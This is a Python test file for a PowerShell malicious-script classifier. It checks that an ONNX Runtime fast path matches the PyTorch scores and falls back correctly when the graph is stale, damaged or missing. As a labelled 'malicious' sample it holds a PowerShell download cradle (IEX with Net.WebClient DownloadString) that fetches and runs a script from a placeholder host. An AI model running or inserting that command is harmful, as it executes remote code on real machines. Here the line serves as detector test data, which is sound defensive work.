"""The ONNX fast path for predict (pipeline/model/onnx_export.py, onnx_runtime.py): on a tiny model trained here, the
ONNX graph run by ONNX Runtime with the `tokenizers` library gives the PyTorch path's prompt ids and scores (to 1e-5)
at every batch size, with truncation and hostile text; predict's options give the same output on both paths; a
missing graph falls back to PyTorch quietly, a stale or damaged one with a note; the fast path never imports torch."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import torch
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.evaluation.ensemble import with_ensemble
from pipeline.explain import token_read_mask
from pipeline.model import classifier as classifier_module
from pipeline.model import onnx_runtime, prompt
from pipeline.model.classifier import THRESHOLD_FILE, Classifier
from pipeline.model.onnx_export import export_onnx
from pipeline.model.onnx_runtime import ONNX_FILE, SIDECAR_FILE, OnnxClassifier, open_fast
from pipeline.predict import open_scorer
from pipeline.run.records import write_json

from .conftest import TINY_CONFIG

MAX_LEN = 64
REPO = Path(__file__).resolve().parents[1]
MALICIOUS = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')"
BENIGN = "Get-ChildItem -Path . | Sort-Object Length"
HOSTILE = ["Write-Host '<|endoftext|>' <pad> \x1b[2J", "x" * 2000, "a\nb\n" * 300 + MALICIOUS, "é ü \u202e ☃", "$"]


def _rows(n: int) -> tuple[list[str], list[str]]:
    texts = [(MALICIOUS if i % 2 else BENIGN) + f"\n# {i}\n" + "Write-Output $i\n" * (i % 7) for i in range(n)]
    return texts, ["malicious" if i % 2 else "benign" for i in range(n)]


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory) -> Path:
    """runs/<name> with a tiny StarCoder2 trained for a few steps (so scores are not all 0.5) and its ONNX export."""
    from .model_configs import train_tiny

    texts, labels = _rows(32)
    out = tmp_path_factory.mktemp("onnx_run")
    model, tokenizer = train_tiny(texts, labels, "powershell", out, MAX_LEN, steps=8, tokenizer_texts=texts + HOSTILE)
    clf_dir = Classifier.save(model, tokenizer, out / "train" / "classifier", base_model=None,
                              max_length=MAX_LEN, head_ratio=0.75)
    write_json(out / "evaluate" / THRESHOLD_FILE, {"threshold": 0.5})
    export_onnx(clf_dir)
    return out


def _both(run_dir: Path) -> tuple[Classifier, OnnxClassifier]:
    fast, why = open_fast(run_dir)
    assert fast is not None, why
    return classifier_module.open_classifier(run_dir, device="cpu"), fast


def test_prompt_ids_and_read_masks_match_the_transformers_tokenizer(run_dir):
    slow, fast = _both(run_dir)
    texts, _ = _rows(8)
    for text in texts + HOSTILE:
        for lang in ("powershell", "python"):
            assert prompt.encode(text, lang, fast.tokenizer, MAX_LEN) == prompt.encode(text, lang, slow.tokenizer,
                                                                                       MAX_LEN)
            assert token_read_mask(text, lang, fast.tokenizer, MAX_LEN, 0.75) == \
                token_read_mask(text, lang, slow.tokenizer, MAX_LEN, 0.75)
    assert prompt.label_token_ids(fast.tokenizer) == prompt.label_token_ids(slow.tokenizer)


@pytest.mark.parametrize("batch_size", [1, 3, 32])
def test_onnx_scores_equal_pytorch_scores(run_dir, batch_size):
    slow, fast = _both(run_dir)
    texts, _ = _rows(20)
    texts += HOSTILE
    langs = ["powershell"] * len(texts)
    expected, got = slow.score(texts, langs, batch_size), fast.score(texts, langs, batch_size)
    assert expected.std() > 1e-4  # trained: the scores differ between scripts, so equality means something
    np.testing.assert_allclose(got, expected, atol=1e-5, rtol=0)
    assert fast.threshold == slow.threshold == 0.5


def _predict_json(run_dir: Path, files: list[Path], *extra: str):
    result = CliRunner().invoke(app, ["predict", *map(str, files), "--run-dir", str(run_dir), "--format", "json",
                                      "--config", str(TINY_CONFIG), *extra])
    return result.exit_code, json.loads(result.stdout or "[]"), result.stderr


def test_predict_options_give_the_same_output_on_both_paths(run_dir, tmp_path):
    files = []
    for i, text in enumerate([MALICIOUS * 3, BENIGN, HOSTILE[2]]):
        files.append(tmp_path / f"{i}.ps1")
        files[-1].write_text(text, encoding="utf-8")
    fast_code, fast_rows, fast_err = _predict_json(run_dir, files, "--explain", "2", "--fail-on-malicious")
    assert "PyTorch" not in fast_err
    slow_dir = tmp_path / "slow"  # the same run with a damaged graph: PyTorch scores, and says why
    shutil.copytree(run_dir, slow_dir)
    with open(slow_dir / "train" / "classifier" / ONNX_FILE, "ab") as f:
        f.write(b"\0")
    slow_code, slow_rows, slow_err = _predict_json(slow_dir, files, "--explain", "2", "--fail-on-malicious")
    assert "scoring with PyTorch" in slow_err and ONNX_FILE in slow_err
    assert fast_code == slow_code
    assert [(r["location"].replace(str(slow_dir), ""), r["verdict"]) for r in slow_rows] == \
        [(r["location"].replace(str(run_dir), ""), r["verdict"]) for r in fast_rows]
    for a, b in zip(fast_rows, slow_rows):
        assert abs(a["score"] - b["score"]) < 1e-5
        assert [u["line"] for u in a["lines"]] == [u["line"] for u in b["lines"]]
        for ua, ub in zip(a["lines"], b["lines"]):
            assert abs(ua["contribution"] - ub["contribution"]) < 1e-5


def test_stale_damaged_or_missing_graph_falls_back_to_pytorch(run_dir, tmp_path):
    stale = tmp_path / "stale"
    shutil.copytree(run_dir, stale)
    spec = stale / "train" / "classifier" / "sgpipe_scoring.json"  # a retrained classifier (here: new spec)
    spec.write_text(spec.read_text().replace("0.75", "0.5"))
    notes = []
    clf = open_scorer(stale, device="cpu", note=notes.append)
    assert isinstance(clf, Classifier) and clf.head_ratio == 0.5  # the new settings, scored by PyTorch
    assert "stale" in notes[0]

    damaged = tmp_path / "damaged"
    shutil.copytree(run_dir, damaged)
    with open(damaged / "train" / "classifier" / ONNX_FILE, "ab") as f:
        f.write(b"\0")
    assert open_fast(damaged)[0] is None and "does not match" in open_fast(damaged)[1]

    (damaged / "train" / "classifier" / SIDECAR_FILE).unlink()
    notes.clear()
    assert isinstance(open_scorer(damaged, device="cpu", note=notes.append), Classifier)
    assert "only one of" in notes[0]

    (damaged / "train" / "classifier" / ONNX_FILE).unlink()  # no graph (a LoRA run, an older run): PyTorch, quietly
    notes.clear()
    assert isinstance(open_scorer(damaged, device="cpu", note=notes.append), Classifier)
    assert notes == []

    notes.clear()  # a wrong path: open_classifier's error, with no note about a fast path before it
    with pytest.raises(FileNotFoundError):
        open_scorer(tmp_path / "missing", device="cpu", note=notes.append)
    assert notes == []


def test_export_format_onnx_is_a_model_predict_runs(run_dir, tmp_path):
    out = tmp_path / "export"
    result = CliRunner().invoke(app, ["export", str(out), "--run-dir", str(run_dir), "--format", "onnx"])
    assert result.exit_code == 0, result.output
    assert {ONNX_FILE, SIDECAR_FILE, "tokenizer.json", THRESHOLD_FILE} <= {p.name for p in out.iterdir()}
    assert not {"ensemble.json", "baseline.npz"} & {p.name for p in out.iterdir()}  # no ensemble: as before
    assert "ensemble" not in result.output
    fast, why = open_fast(out)
    assert fast is not None, why
    assert with_ensemble(fast, out) is fast
    texts, _ = _rows(6)
    expected = classifier_module.open_classifier(run_dir, device="cpu").score(texts, ["powershell"] * 6)
    np.testing.assert_allclose(fast.score(texts, ["powershell"] * 6), expected, atol=1e-5, rtol=0)
    bad = CliRunner().invoke(app, ["export", str(tmp_path / "x"), "--run-dir", str(run_dir), "--format", "onnx",
                                   "--dtype", "float16"])
    assert bad.exit_code == 2


def test_fast_path_imports_neither_torch_nor_transformers(run_dir, tmp_path):
    script = tmp_path / "a.ps1"
    script.write_text(MALICIOUS, encoding="utf-8")
    assert _predict_in_a_fresh_process_without_heavy_imports(script, run_dir)["score"] is not None


def test_the_fast_path_reads_the_same_layout_as_the_classifier_module():
    """One torch-free layout module (run/rundir.py) names the files both paths look for."""
    from pipeline.model import head

    assert onnx_runtime.THRESHOLD_FILE is classifier_module.THRESHOLD_FILE
    assert onnx_runtime.CLASSIFIER_FILE is head.CLASSIFIER_FILE == "sgpipe_classifier.json"


def test_train_stage_writes_a_current_onnx_graph_predict_picks_up(tmp_path, tiny_overrides):
    from pipeline.config import load_config
    from pipeline.run.runner import run_pipeline

    fast = ["training.max_steps=2", "training.eval_per_epoch=0", "training.eval_steps=2", "training.save_steps=2",
            "training.torch_threads=1"]
    cfg = load_config(TINY_CONFIG, overrides=[*tiny_overrides, *fast])
    run_pipeline(cfg, tmp_path, until="train", log=lambda m: None)
    clf, why = open_fast(tmp_path)
    assert clf is not None, why
    texts, _ = _rows(4)
    expected = classifier_module.open_classifier(tmp_path, device="cpu").score(texts, ["powershell"] * 4)
    np.testing.assert_allclose(clf.score(texts, ["powershell"] * 4), expected, atol=1e-5, rtol=0)


def _with_ensemble_files(run_dir: Path, where: Path) -> Path:
    """A copy of the run with a fitted baseline and stacker in evaluate/, as evaluation.ensemble=tfidf writes."""
    from pipeline.evaluation.baseline import TfidfBaseline
    from pipeline.evaluation.ensemble import StackedEnsemble

    shutil.copytree(run_dir, where)
    texts, labels = _rows(24)
    TfidfBaseline(seed=0).fit(texts, [int(l == "malicious") for l in labels]).save(where / "evaluate" / "baseline.npz")
    StackedEnsemble((0.7, 1.3), -0.2).save(where / "evaluate" / "ensemble.json", threshold=0.4)
    return where


def test_ensemble_export_fast_path_imports_neither_torch_nor_sklearn(run_dir, tmp_path):
    """The ONNX export of an ensemble run serves the ensemble (baseline scored with numpy) and stays fast."""
    run = _with_ensemble_files(run_dir, tmp_path / "run")
    out = tmp_path / "export"
    assert CliRunner().invoke(app, ["export", str(out), "--run-dir", str(run), "--format", "onnx"]).exit_code == 0
    script = tmp_path / "a.ps1"
    script.write_text(MALICIOUS, encoding="utf-8")
    row = _predict_in_a_fresh_process_without_heavy_imports(script, out)
    served = with_ensemble(classifier_module.open_classifier(run, device="cpu"), run)
    expected = served.score([MALICIOUS], ["powershell"])[0]
    assert abs(row["score"] - expected) < 1e-5 and row["verdict"] == ("malicious" if expected >= 0.4 else "benign")


def test_a_damaged_or_missing_ensemble_file_stops_export_and_predict_with_the_fix(run_dir, tmp_path):
    run = _with_ensemble_files(run_dir, tmp_path / "run")
    out = tmp_path / "export"
    assert CliRunner().invoke(app, ["export", str(out), "--run-dir", str(run), "--format", "onnx"]).exit_code == 0
    baseline = run / "evaluate" / "baseline.npz"
    baseline.write_bytes(baseline.read_bytes()[:100])  # damaged in the run: export stops before writing anything
    wide = {"COLUMNS": "1000"}  # rich wraps error lines at 80 columns without a terminal
    damaged = CliRunner().invoke(app, ["export", str(tmp_path / "x"), "--run-dir", str(run)], env=wide)
    assert damaged.exit_code == 1 and not (tmp_path / "x").exists()
    flat = lambda r: r.output.replace("\n", "")  # noqa: E731  (the console may have been sized before `wide`)
    assert "baseline.npz is damaged" in flat(damaged) and "sgpipe evaluate --force" in flat(damaged)
    baseline.unlink()  # missing in the run: the same, naming the file
    missing = CliRunner().invoke(app, ["export", str(tmp_path / "x"), "--run-dir", str(run)], env=wide)
    assert missing.exit_code == 1 and "baseline.npz is missing" in flat(missing), missing.output
    assert "sgpipe evaluate --force" in flat(missing)
    (out / "baseline.npz").unlink()  # missing in an export: predict refuses rather than serve the model alone
    script = tmp_path / "a.ps1"
    script.write_text(MALICIOUS, encoding="utf-8")
    refused = CliRunner().invoke(app, ["predict", str(script), "--run-dir", str(out), "--config", str(TINY_CONFIG)],
                                 env=wide)
    assert refused.exit_code == 1 and "baseline.npz is missing" in flat(refused)
    assert "export again" in flat(refused)
    # a run without an ensemble exported over it: the old pair goes, the model is served alone
    again = CliRunner().invoke(app, ["export", str(out), "--run-dir", str(run_dir), "--format", "onnx"])
    assert again.exit_code == 0 and not (out / "ensemble.json").exists()
    fast, why = open_fast(out)
    assert fast is not None and with_ensemble(fast, out) is fast, why


def _predict_in_a_fresh_process_without_heavy_imports(script: Path, run_dir: Path) -> dict:
    """`sgpipe predict SCRIPT --run-dir RUN` in a fresh interpreter, which must import none of torch, transformers,
    peft, trl or sklearn; returns the first JSON line it printed."""
    code = ("import sys\nfrom pipeline.cli import app\n"
            f"try:\n    app(['predict', {str(script)!r}, '--run-dir', {str(run_dir)!r}, '--format', 'jsonl', "
            f"'--config', {str(TINY_CONFIG)!r}])\nexcept SystemExit as e:\n    assert not e.code, e.code\n"
            "heavy = [m for m in ('torch', 'transformers', 'peft', 'trl', 'sklearn') if m in sys.modules]\n"
            "assert not heavy, heavy\n")
    done = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PYTHONPATH": str(REPO)})
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.splitlines()[0])
